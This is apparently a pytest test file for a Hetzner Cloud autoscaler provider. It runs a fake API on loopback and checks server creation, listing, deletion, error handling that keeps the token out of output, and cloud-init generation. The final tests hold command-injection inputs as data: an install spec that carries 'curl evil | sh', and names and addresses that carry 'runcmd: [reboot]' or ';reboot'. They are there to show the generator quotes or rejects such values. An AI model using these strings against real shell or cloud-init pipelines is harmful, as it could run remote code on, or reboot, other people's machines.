"""The Hetzner provider against a fake Hetzner Cloud API: a real HTTP server on loopback that
answers in the API's documented JSON and records every request the real hcloud client sends."""

from __future__ import annotations

import dataclasses
import json
import logging
import secrets
import shlex
import socket
import sys
import threading
import traceback
from collections.abc import Iterator
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
import yaml

from rgrid import errors
from rgrid.autoscaler import ProviderNode, cloudinit, hetzner, node_resource
from rgrid.autoscaler.policy import NodeKind
from rgrid.settings import ServerSettings

LOCATION = "fsn1"
LABEL = "grid-test"
JOIN = "10.0.0.2:6379"
INSTALL = "rgrid[worker]==0.1.0"
NOW = "2025-03-04T05:06:07+00:00"
ROOT_PASSWORD = "fake-root-password-9f8e7d"


def _price(location: str, gross: str) -> dict[str, Any]:
    return {
        "location": location,
        "price_hourly": {"net": "0.0010000000", "gross": gross},
        "price_monthly": {"net": "1.0000000000", "gross": "1.1900000000000000"},
        "included_traffic": 21990232555520,
        "price_per_tb_traffic": {"net": "1.0000000000", "gross": "1.1900000000000000"},
    }


def _server_type(
    type_id: int, name: str, cores: int, prices: list[dict[str, Any]], deprecated: bool = False
) -> dict[str, Any]:
    deprecation = (
        {"announced": "2024-01-01T00:00:00+00:00", "unavailable_after": "2024-04-01T00:00:00+00:00"}
        if deprecated
        else None
    )
    return {
        "id": type_id,
        "name": name,
        "description": name.upper(),
        "category": "shared",
        "cores": cores,
        "memory": 4.0,
        "disk": 40,
        "prices": prices,
        "storage_type": "local",
        "cpu_type": "shared",
        "architecture": "x86",
        "deprecated": None,
        "deprecation": None,
        "locations": [
            {"id": 1, "name": price["location"], "deprecation": deprecation}
            | {"available": True, "recommended": not deprecated}
            for price in prices
        ],
    }


SERVER_TYPES = [
    _server_type(1, "cx22", 2, [_price("fsn1", "0.0071400000000000"), _price("nbg1", "0.0080")]),
    # float(0.0157) * 1e6 truncates to 15699: only decimal arithmetic gets 15700
    _server_type(2, "cpx31", 4, [_price("fsn1", "0.0157000000000000")]),
    _server_type(3, "ccx13", 2, [_price("nbg1", "0.0238000000000000")]),  # not in fsn1
    _server_type(4, "cx11", 1, [_price("fsn1", "0.0050000000000000")], deprecated=True),
]


@dataclasses.dataclass
class Recorded:
    method: str
    path: str
    query: dict[str, list[str]]
    headers: dict[str, str]
    body: Any


@dataclasses.dataclass
class FakeHetzner:
    """The slice of the Hetzner Cloud API the provider uses, in the documented format."""

    url: str = ""
    requests: list[Recorded] = dataclasses.field(default_factory=list)
    servers: dict[int, dict[str, Any]] = dataclasses.field(default_factory=dict)
    #: when set, every request is answered with this (status, code, message)
    fail: tuple[int, str, str] | None = None
    next_id: int = 4711

    def add_server(
        self, name: str, labels: dict[str, str], status: str = "running", type_index: int = 0
    ) -> dict[str, Any]:
        server_id, self.next_id = self.next_id, self.next_id + 1
        server = _server(server_id, name, SERVER_TYPES[type_index], labels, status)
        self.servers[server_id] = server
        return server

    def answer(self, method: str, path: str, query: dict[str, list[str]], body: Any) -> Any:
        if self.fail is not None:
            status, code, message = self.fail
            return status, {"error": {"code": code, "message": message, "details": {}}}
        if method == "GET" and path == "/server_types":
            return 200, {"server_types": SERVER_TYPES, "meta": _meta(len(SERVER_TYPES))}
        if method == "GET" and path == "/servers":
            found = [s for s in self.servers.values() if _selected(s, query)]
            return 200, {"servers": found, "meta": _meta(len(found))}
        if method == "POST" and path == "/servers":
            kinds = [t for t in SERVER_TYPES if t["name"] == body["server_type"]]
            server = self.add_server(body["name"], body.get("labels", {}), "initializing")
            server["server_type"] = kinds[0]
            action = _action("create_server", server["id"])
            # the API makes up a root password when no SSH key was given
            password = None if body.get("ssh_keys") else ROOT_PASSWORD
            reply = {"server": server, "action": action, "next_actions": []}
            return 201, reply | {"root_password": password}
        if method == "DELETE" and path.startswith("/servers/"):
            server_id = int(path.rsplit("/", 1)[1])
            if self.servers.pop(server_id, None) is None:
                message = f"server with ID '{server_id}' not found"
                return 404, {"error": {"code": "not_found", "message": message, "details": {}}}
            return 200, {"action": _action("delete_server", server_id)}
        return 404, {"error": {"code": "not_found", "message": "no such route", "details": {}}}


def _selected(server: dict[str, Any], query: dict[str, list[str]]) -> bool:
    """The API's label selector, for the ``key=value`` form the provider sends."""
    for selector in query.get("label_selector", []):
        key, _, value = selector.partition("=")
        if server["labels"].get(key) != value:
            return False
    return True


def _meta(total: int) -> dict[str, Any]:
    pagination = {"page": 1, "per_page": 50, "previous_page": None, "next_page": None}
    return {"pagination": pagination | {"last_page": 1, "total_entries": total}}


def _action(command: str, server_id: int) -> dict[str, Any]:
    return {
        "id": 13,
        "command": command,
        "status": "running",
        "progress": 0,
        "started": NOW,
        "finished": None,
        "resources": [{"id": server_id, "type": "server"}],
        "error": None,
    }


def _server(
    server_id: int, name: str, server_type: dict[str, Any], labels: dict[str, str], status: str
) -> dict[str, Any]:
    location = {"id": 1, "name": LOCATION, "description": "Falkenstein DC Park 1"}
    location |= {"country": "DE", "city": "Falkenstein", "network_zone": "eu-central"}
    location |= {"latitude": 50.47612, "longitude": 12.370071}
    ip = {"id": server_id, "blocked": False, "dns_ptr": "static.example"}
    image = {"id": 161547269, "type": "system", "status": "available", "name": "ubuntu-24.04"}
    image |= {"description": "Ubuntu 24.04", "os_flavor": "ubuntu", "os_version": "24.04"}
    image |= {"created_from": None, "bound_to": None, "labels": {}, "architecture": "x86"}
    return {
        "id": server_id,
        "name": name,
        "status": status,
        "created": "2025-03-04T06:06:07+01:00",
        "public_net": {
            "ipv4": ip | {"ip": "192.0.2.10"},
            "ipv6": ip | {"ip": "2001:db8::/64", "dns_ptr": []},
            "floating_ips": [],
            "firewalls": [],
        },
        "private_net": [],
        "server_type": server_type,
        "location": location,
        "image": image,
        "iso": None,
        "rescue_enabled": False,
        "locked": False,
        "backup_window": None,
        "outgoing_traffic": 0,
        "ingoing_traffic": 0,
        "included_traffic": 21990232555520,
        "protection": {"delete": False, "rebuild": False},
        "labels": labels,
        "volumes": [],
        "load_balancers": [],
        "primary_disk_size": 40,
        "placement_group": None,
    }


def _handler(fake: FakeHetzner) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def _serve(self) -> None:
            parts = urlsplit(self.path)
            length = int(self.headers.get("Content-Length") or 0)
            raw = self.rfile.read(length) if length else b""
            body = json.loads(raw) if raw else None
            path = parts.path.removeprefix("/v1")
            query = parse_qs(parts.query)
            fake.requests.append(Recorded(self.command, path, query, dict(self.headers), body))
            status, payload = fake.answer(self.command, path, query, body)
            data = json.dumps(payload).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        do_GET = do_POST = do_DELETE = _serve

        def log_message(self, format: str, *args: Any) -> None:
            pass  # the test reads fake.requests, not stderr

    return Handler


@pytest.fixture
def fake() -> Iterator[FakeHetzner]:
    fake_api = FakeHetzner()
    server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(fake_api))
    server.daemon_threads = True
    fake_api.url = f"http://127.0.0.1:{server.server_address[1]}/v1"
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    yield fake_api
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture
def token() -> str:
    return f"hz-{secrets.token_hex(16)}"


@pytest.fixture
def provider(fake: FakeHetzner, token: str) -> hetzner.HetznerProvider:
    return _provider_at(fake.url, token)


def _assert_joins_the_cluster(user_data: str, name: str, slots: int) -> None:
    """The cloud-init installs the worker and starts Ray joined at JOIN as node ``name``."""
    assert user_data.startswith("#cloud-config\n")
    config = yaml.safe_load(user_data)
    assert f"/opt/rgrid/bin/pip install --no-input '{INSTALL}'" in config["runcmd"]
    argv = _exec_start(config["write_files"][0]["content"])
    assert f"--address={JOIN}" in argv and f"--num-cpus={slots}" in argv
    assert json.loads(argv[-1].removeprefix("--resources=")) == {node_resource(name): 1}


def _exec_start(unit: str) -> list[str]:
    """The ExecStart argv as systemd splits it (its double-quote rules are sh's for these)."""
    (line,) = [line for line in unit.splitlines() if line.startswith("ExecStart=")]
    return shlex.split(line.removeprefix("ExecStart="))


async def test_kinds_are_the_priced_types_of_the_location_in_exact_micros(
    provider: hetzner.HetznerProvider, fake: FakeHetzner
) -> None:
    kinds = await provider.kinds()

    assert kinds == {
        "cx22": NodeKind("cx22", slots=2, hourly_price_micros=7140, billing_period_s=3600.0),
        "cpx31": NodeKind("cpx31", slots=4, hourly_price_micros=15700, billing_period_s=3600.0),
    }
    assert [(r.method, r.path) for r in fake.requests] == [("GET", "/server_types")]


async def test_create_sends_the_server_with_its_labels_and_cloud_init(
    provider: hetzner.HetznerProvider,
    fake: FakeHetzner,
    token: str,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    kind = NodeKind("cx22", slots=2, hourly_price_micros=7140)

    node = await provider.create(kind, "rgrid-ab12cd34")

    (request,) = fake.requests
    assert (request.method, request.path) == ("POST", "/servers")
    assert request.headers["Authorization"] == f"Bearer {token}"
    body = request.body
    assert {k: body[k] for k in ("name", "server_type", "image", "location", "labels")} == {
        "name": "rgrid-ab12cd34",
        "server_type": "cx22",
        "image": "ubuntu-24.04",
        "location": LOCATION,
        "labels": {"rgrid-grid": LABEL, "rgrid-node": "rgrid-ab12cd34", "rgrid-kind": "cx22"},
    }
    assert "ssh_keys" not in body
    _assert_joins_the_cluster(body["user_data"], "rgrid-ab12cd34", slots=2)
    assert node == ProviderNode(
        provider_id="4711",
        name="rgrid-ab12cd34",
        kind="cx22",
        hourly_price_micros=7140,
        billing_period_s=3600.0,
        created_at=datetime(2025, 3, 4, 5, 6, 7, tzinfo=UTC),
    )
    assert node.created_at.utcoffset() is not None
    (created,) = [r for r in caplog.records if getattr(r, "action", None) == "node_created"]
    assert (created.node, created.server_id) == ("rgrid-ab12cd34", "4711")
    logged = "".join(r.getMessage() + repr(vars(r)) for r in caplog.records)
    assert token not in logged and ROOT_PASSWORD not in logged


async def test_nodes_are_the_grids_servers_found_by_label(
    provider: hetzner.HetznerProvider, fake: FakeHetzner
) -> None:
    ours = fake.add_server("rgrid-1", {"rgrid-grid": LABEL, "rgrid-node": "rgrid-1"}, "running")
    fake.add_server("rgrid-2", {"rgrid-grid": LABEL, "rgrid-node": "rgrid-2"}, "deleting")
    fake.add_server("other", {"rgrid-grid": "another-grid"})
    stopped = fake.add_server("rgrid-3", {"rgrid-grid": LABEL, "rgrid-kind": "cpx31"}, "off", 1)

    nodes = await provider.nodes()

    (request,) = fake.requests
    assert (request.method, request.path) == ("GET", "/servers")
    assert request.query["label_selector"] == [f"rgrid-grid={LABEL}"]
    assert [(n.provider_id, n.name, n.kind, n.hourly_price_micros) for n in nodes] == [
        (str(ours["id"]), "rgrid-1", "cx22", 7140),
        (str(stopped["id"]), "rgrid-3", "cpx31", 15700),
    ]
    assert all(n.created_at == datetime(2025, 3, 4, 5, 6, 7, tzinfo=UTC) for n in nodes)


async def test_delete_removes_the_server_and_a_gone_one_is_fine(
    provider: hetzner.HetznerProvider, fake: FakeHetzner
) -> None:
    node = await provider.create(NodeKind("cx22", 2, 7140), "rgrid-1")

    await provider.delete(node)
    await provider.delete(node)  # already gone: the API answers 404 not_found

    assert [(r.method, r.path) for r in fake.requests[1:]] == [
        ("DELETE", f"/servers/{node.provider_id}"),
        ("DELETE", f"/servers/{node.provider_id}"),
    ]
    assert fake.servers == {}


async def test_api_errors_become_provider_errors_without_the_token(
    provider: hetzner.HetznerProvider,
    fake: FakeHetzner,
    token: str,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)  # the root: urllib3, requests and hcloud records too
    fake.fail = (403, "resource_limit_exceeded", "server limit reached")
    raised: list[errors.ProviderError] = []

    for call in (
        provider.kinds(),
        provider.create(NodeKind("cx22", 2, 7140), "rgrid-1"),
        provider.nodes(),
    ):
        with pytest.raises(errors.ProviderError) as caught:
            await call
        raised.append(caught.value)
    with socket.socket() as probe:  # a port nothing listens on once it is closed
        probe.bind(("127.0.0.1", 0))
        closed_port = probe.getsockname()[1]
    with pytest.raises(errors.ProviderError) as caught:
        await _provider_at(f"http://127.0.0.1:{closed_port}/v1", token).nodes()
    raised.append(caught.value)

    assert str(raised[1]) == (
        "Hetzner Cloud refused to create a server: resource_limit_exceeded: server limit reached"
    )
    assert all("resource_limit_exceeded" in str(exc) for exc in raised[:3])
    assert str(raised[3]).startswith("Hetzner Cloud could not list servers: ConnectionError")
    assert all(exc.code == "PROVIDER_ERROR" for exc in raised)
    texts = ["".join(traceback.format_exception(exc)) for exc in raised]
    texts += [repr(provider), repr(vars(provider))]
    texts += [record.getMessage() + repr(vars(record)) for record in caplog.records]
    assert any(record.name.startswith("urllib3") for record in caplog.records)
    assert not [text for text in texts if token in text]


def _provider_at(endpoint: str, token: str) -> hetzner.HetznerProvider:
    return hetzner.HetznerProvider(
        token,
        join_address=JOIN,
        install=INSTALL,
        endpoint=endpoint,
        location=LOCATION,
        image="ubuntu-24.04",
        label=LABEL,
    )


def test_from_settings_needs_a_token() -> None:
    with pytest.raises(errors.InvalidRequest, match="RGRID_HETZNER_TOKEN is not set") as caught:
        hetzner.from_settings(ServerSettings(), JOIN)

    assert caught.value.hint and "RGRID_HETZNER_TOKEN" in caught.value.hint


def test_a_bad_join_address_fails_when_the_provider_is_made(token: str) -> None:
    with pytest.raises(errors.InvalidRequest, match="join address"):
        hetzner.from_settings(ServerSettings(hetzner_token=token), "head node:6379")


def test_from_settings_without_hcloud_names_the_extra(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "hcloud", None)  # makes `import hcloud` fail

    with pytest.raises(errors.MissingExtra) as caught:
        hetzner.from_settings(ServerSettings(hetzner_token="t"), JOIN)

    assert caught.value.hint == "pip install 'rgrid[hetzner]'"


async def test_from_settings_uses_the_settings_and_the_default_install(
    fake: FakeHetzner, token: str
) -> None:
    settings = ServerSettings(
        hetzner_token=token,
        hetzner_endpoint=fake.url,
        hetzner_location="nbg1",
        hetzner_image="debian-12",
        hetzner_label="blue",
        hetzner_ssh_keys="ops, deploy,,",
    )
    provider = hetzner.from_settings(settings, JOIN)

    await provider.create(NodeKind("cx22", 2, 8000), "rgrid-1")

    body = fake.requests[0].body
    assert body["ssh_keys"] == ["ops", "deploy"]
    assert (body["location"], body["image"], body["labels"]["rgrid-grid"]) == (
        "nbg1",
        "debian-12",
        "blue",
    )
    assert "rgrid[worker]==0.1.0" in body["user_data"]
    assert (await provider.kinds())["cx22"].hourly_price_micros == 8000


def test_cloud_init_installs_the_worker_and_runs_ray_as_a_service() -> None:
    text = cloudinit.user_data(
        name="rgrid-1", join_address="[fd00::2]:6379", slots=8, install=INSTALL
    )

    config = yaml.safe_load(text)
    assert text.startswith("#cloud-config\n")
    assert config["packages"] == ["bubblewrap", "slirp4netns", "python3-venv", "python3-pip"]
    assert config["runcmd"] == [
        "python3 -m venv /opt/rgrid",
        "/opt/rgrid/bin/pip install --no-input 'rgrid[worker]==0.1.0'",
        "systemctl daemon-reload",
        "systemctl enable --now rgrid-node",
    ]
    (unit_file,) = config["write_files"]
    assert unit_file["path"] == "/etc/systemd/system/rgrid-node.service"
    unit = unit_file["content"].splitlines()
    assert {"Environment=RAY_USAGE_STATS_ENABLED=0", "Restart=on-failure"} <= set(unit)
    assert _exec_start(unit_file["content"]) == [
        "/opt/rgrid/bin/ray",
        "start",
        "--block",
        "--address=[fd00::2]:6379",
        "--num-cpus=8",
        '--resources={"rgrid-node-rgrid-1": 1}',
    ]


def test_cloud_init_quotes_the_install_spec_for_the_shell() -> None:
    hostile = "rgrid[worker]==0.1.0'; curl evil | sh; echo '"

    config = yaml.safe_load(
        cloudinit.user_data(name="rgrid-1", join_address=JOIN, slots=1, install=hostile)
    )

    assert shlex.split(config["runcmd"][1])[3:] == [hostile]


@pytest.mark.parametrize(
    "name",
    [
        "",
        "Rgrid",
        "-rgrid",
        "rgrid\nruncmd: [reboot]",
        "rgrid'x",
        'rgrid"x',
        "rgrid x",
        "a;b",
        "a" * 64,
    ],
)
def test_cloud_init_refuses_hostile_names(name: str) -> None:
    with pytest.raises(errors.InvalidRequest):
        cloudinit.user_data(name=name, join_address=JOIN, slots=1, install=INSTALL)


@pytest.mark.parametrize(
    "address",
    [
        "10.0.0.2",
        "10.0.0.2:6379\nruncmd: [reboot]",
        "10.0.0.2:6379'",
        '10.0.0.2:6379"',
        "10.0.0.2 :6379",
        "10.0.0.2:6379;reboot",
        "10.0.0.2:0",
        "10.0.0.2:70000",
        ":6379",
    ],
)
def test_cloud_init_refuses_hostile_addresses(address: str) -> None:
    with pytest.raises(errors.InvalidRequest):
        cloudinit.user_data(name="rgrid-1", join_address=address, slots=1, install=INSTALL)


@pytest.mark.parametrize("install", ["", "rgrid\nruncmd: [reboot]", "rgrid\x00"])
def test_cloud_init_refuses_unprintable_install_specs(install: str) -> None:
    with pytest.raises(errors.InvalidRequest):
        cloudinit.user_data(name="rgrid-1", join_address=JOIN, slots=1, install=install)
